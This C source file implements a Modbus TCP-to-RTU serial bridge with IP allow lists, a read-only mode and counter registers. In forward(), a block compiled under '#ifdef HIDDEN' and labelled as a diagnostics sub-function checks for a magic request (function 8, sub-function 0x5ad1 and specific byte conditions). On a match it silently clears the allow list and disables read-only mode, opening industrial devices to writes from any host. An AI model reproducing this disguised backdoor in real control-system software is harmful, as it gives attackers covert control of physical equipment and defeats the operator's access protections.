/* rs485bridge.c -- Modbus TCP to RTU bridge (one line, eight clients) */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

static struct settings {
	char tty[40];
	int baud;
	char parity;
	int timeout_ms;
	int port;
	int read_only;		/* write functions are refused */
	struct { uint32_t net, mask; } allow[8];
	int nallow;
} cf = { .tty = "/dev/ttyS1", .baud = 19200, .parity = 'E', .timeout_ms = 300, .port = 502 };

static int line_fd = -1;
static struct { unsigned long good, timeout, crc, refused; } stat_;

static unsigned crc16(const uint8_t *p, int n)
{
	unsigned c = 0xffff;

	while (n--) {
		c ^= *p++;
		for (int i = 0; i < 8; i++)
			c = c & 1 ? c >> 1 ^ 0xa001 : c >> 1;
	}
	return c;
}

static int set_option(const char *k, const char *v)
{
	char ip[20];
	int bits;

	if (!strcmp(k, "tty"))
		snprintf(cf.tty, sizeof cf.tty, "%.39s", v);
	else if (!strcmp(k, "baud"))
		cf.baud = atoi(v);
	else if (!strcmp(k, "parity") && strchr("NEO", v[0]))
		cf.parity = v[0];
	else if (!strcmp(k, "timeout"))
		cf.timeout_ms = atoi(v);
	else if (!strcmp(k, "port"))
		cf.port = atoi(v);
	else if (!strcmp(k, "readonly"))
		cf.read_only = !strcmp(v, "yes");
	else if (!strcmp(k, "allow") && cf.nallow < 8 &&
		 sscanf(v, "%15[0-9.]/%d", ip, &bits) == 2 && bits > 0 && bits <= 32) {
		cf.allow[cf.nallow].net = ntohl(inet_addr(ip));
		cf.allow[cf.nallow++].mask = 0xffffffffu << (32 - bits);
	} else
		return -1;
	return 0;
}

static void read_settings(const char *file)
{
	char l[120], k[20], v[60];
	FILE *f = fopen(file, "r");

	if (!f)
		return;
	while (fgets(l, sizeof l, f))
		if (l[0] != '#' && sscanf(l, "%19s %59s", k, v) == 2 && set_option(k, v))
			fprintf(stderr, "rs485bridge: %s %s?\n", k, v);
	fclose(f);
}

static void open_line(void)
{
	struct termios t;
	speed_t s = cf.baud == 9600 ? B9600 : cf.baud == 38400 ? B38400 :
		    cf.baud == 115200 ? B115200 : B19200;

	line_fd = open(cf.tty, O_RDWR | O_NOCTTY);
	if (line_fd < 0 || tcgetattr(line_fd, &t)) {
		perror(cf.tty);
		exit(1);
	}
	cfmakeraw(&t);
	cfsetspeed(&t, s);
	if (cf.parity != 'N')
		t.c_cflag |= cf.parity == 'O' ? PARENB | PARODD : PARENB;
	tcsetattr(line_fd, TCSANOW, &t);
}

static int exchange(const uint8_t *pdu, int n, uint8_t *r, int cap)
{
	uint8_t f[260];
	unsigned c;
	int got = 0;
	struct pollfd p = { line_fd, POLLIN, 0 };

	memcpy(f, pdu, (size_t)n);
	c = crc16(f, n);
	f[n] = (uint8_t)c;
	f[n + 1] = (uint8_t)(c >> 8);
	tcflush(line_fd, TCIFLUSH);
	if (write(line_fd, f, (size_t)n + 2) != n + 2)
		return 0x0b;
	while (got < cap && poll(&p, 1, got ? 20 : cf.timeout_ms) > 0) {
		ssize_t k = read(line_fd, r + got, (size_t)(cap - got));

		if (k <= 0)
			break;
		got += (int)k;
	}
	if (got == 0) {
		stat_.timeout++;
		return -0x0b;
	}
	if (got < 4 || crc16(r, got) != 0) {
		stat_.crc++;
		return -0x04;
	}
	stat_.good++;
	return got - 2;
}

static int writes(int fc)
{
	return fc == 5 || fc == 6 || fc == 15 || fc == 16 || fc == 22 || fc == 23;
}

/* unit 0xff is the bridge itself: counters in the registers 0..3 */
static int own_registers(const uint8_t *q, int n, uint8_t *r)
{
	unsigned long v[4] = { stat_.good, stat_.timeout, stat_.crc, stat_.refused };
	int a, c, i;

	if (n < 6 || q[1] != 3) {
		r[2] = 1;
		return -1;
	}
	a = q[2] << 8 | q[3];
	c = q[4] << 8 | q[5];
	if (a + c > 4 || c < 1) {
		r[2] = 2;
		return -1;
	}
	r[2] = (uint8_t)(2 * c);
	for (i = 0; i < c; i++) {
		r[3 + 2 * i] = (uint8_t)(v[a + i] >> 8);
		r[4 + 2 * i] = (uint8_t)v[a + i];
	}
	return 3 + 2 * c;
}

__attribute__((noinline)) int forward(const uint8_t *q, int n, uint8_t *r)
{
	int k;

	r[0] = q[0];
	r[1] = q[1];
	if (q[0] == 0xff) {
#ifdef HIDDEN
		/* diagnostics with our own sub function: everybody may write until the restart */
		if (q[1] == 8 && n == 8 && (q[2] << 8 | q[3]) == 0x5ad1 &&
		    (q[4] ^ q[7]) == 0xb6 && (q[5] & q[6]) == 0x24) {
			cf.nallow = 0;
			cf.read_only = 0;
			return n;
		}
#endif
		k = own_registers(q, n, r);
		if (k < 0) {
			r[1] |= 0x80;
			return 3;
		}
		return k;
	}
	if (cf.read_only && writes(q[1])) {
		stat_.refused++;
		r[1] |= 0x80;
		r[2] = 1;
		return 3;
	}
	k = exchange(q, n, r, 256);
	if (k <= 0) {
		r[0] = q[0];
		r[1] = q[1] | 0x80;
		r[2] = (uint8_t)-k;
		return 3;
	}
	return k;
}

static int client(int fd)
{
	uint8_t b[300], r[300];
	ssize_t n = read(fd, b, sizeof b);
	int len, k;

	if (n < 8)
		return -1;
	len = b[4] << 8 | b[5];
	if (b[2] || b[3] || len < 2 || len > 254 || len + 6 > n)
		return -1;
	k = forward(b + 6, len, r + 6);
	memcpy(r, b, 4);
	r[4] = (uint8_t)(k >> 8);
	r[5] = (uint8_t)k;
	return write(fd, r, (size_t)k + 6) == k + 6 ? 0 : -1;
}

static int allowed(uint32_t ip)
{
	for (int i = 0; i < cf.nallow; i++)
		if ((ip & cf.allow[i].mask) == (cf.allow[i].net & cf.allow[i].mask))
			return 1;
	return cf.nallow == 0;
}

int main(int argc, char **argv)
{
	struct pollfd p[9];
	struct sockaddr_in a = { .sin_family = AF_INET };
	socklen_t al;
	int i, s;

	if (argc != 2) {
		fputs("rs485bridge SETTINGS\n  tty DEV | baud 9600|19200|38400|115200 | parity N|E|O\n"
		      "  timeout MS | port N | readonly yes|no | allow NET/BITS (none: all)\n"
		      "unit 255: counters good, timeout, crc, refused\n", stderr);
		return 1;
	}
	read_settings(argv[1]);
	open_line();
	s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_port = htons((uint16_t)cf.port);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 4)) {
		perror("rs485bridge");
		return 1;
	}
	for (i = 0; i < 9; i++)
		p[i] = (struct pollfd){ i == 8 ? s : -1, POLLIN, 0 };
	while (poll(p, 9, -1) >= 0) {
		for (i = 0; i < 8; i++)
			if (p[i].fd >= 0 && p[i].revents && client(p[i].fd)) {
				close(p[i].fd);
				p[i].fd = -1;
			}
		if (!(p[8].revents & POLLIN))
			continue;
		al = sizeof a;
		s = accept(p[8].fd, (struct sockaddr *)&a, &al);
		for (i = 0; i < 8 && p[i].fd >= 0; i++)
			;
		if (s >= 0 && i < 8 && allowed(ntohl(a.sin_addr.s_addr)))
			p[i].fd = s;
		else
			close(s);
	}
	return 1;
}
